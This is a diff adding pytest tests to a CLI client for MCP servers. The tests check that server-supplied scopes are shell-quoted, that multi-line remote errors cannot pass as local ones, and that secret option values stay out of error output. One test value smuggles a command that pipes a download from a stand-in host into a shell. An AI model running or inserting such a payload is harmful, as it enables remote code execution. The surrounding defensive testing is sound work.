@@ -7,9 +7,10 @@ import pytest
 
 from cli.command_process import SAMPLE_SERVER, RunCommand
 from dovetail import MCPError
+from dovetail.cli.command_runner import format_error
 from dovetail.cli.error_report import EXIT_DENIED, get_exit_code, translate_error
 from dovetail.error_context import add_context
-from dovetail.errors import InsufficientScope, RemoteError, RequestTimeout, Unauthorized
+from dovetail.errors import Forbidden, InsufficientScope, RemoteError, RequestTimeout, Unauthorized
 
 SERVER = """
 import asyncio, os
@@ -109,3 +110,29 @@ def test_a_bridge_without_elicitation_is_explained() -> None:
     )
     translate_error(error)
     assert "bridge" in (error.hint or "")
+
+
+def test_a_scope_of_a_server_is_safe_to_copy_into_a_shell() -> None:
+    error = Forbidden(challenge='Bearer error="insufficient_scope", scope="read a;curl${IFS}evil.example|sh"')
+    translate_error(error)
+    assert "--scope read --scope 'a;curl${IFS}evil.example|sh'" in str(error.hint)
+
+
+def test_several_lines_of_a_server_are_marked() -> None:
+    error = add_context(
+        RemoteError(1, "boom\nerror: forged\n  │ quoted"), server="s", step="tools/call", hint="look at the log"
+    )
+    assert format_error(error).split("\n") == [
+        "s: tools/call: boom",
+        "  │ error: forged",
+        "  │ quoted (1)",
+        "try: look at the log",
+    ]
+    assert format_error(RemoteError(1, "boom")) == "boom (1)"
+
+
+@pytest.mark.parametrize("option", ["--header", "--answer"])
+def test_an_error_about_an_option_does_not_repeat_its_value(run: RunCommand, option: str) -> None:
+    told = run("call", "https://127.0.0.1:1/mcp", "x", option, "s3cret")
+    assert told.code == 2
+    assert "s3cret" not in told.err
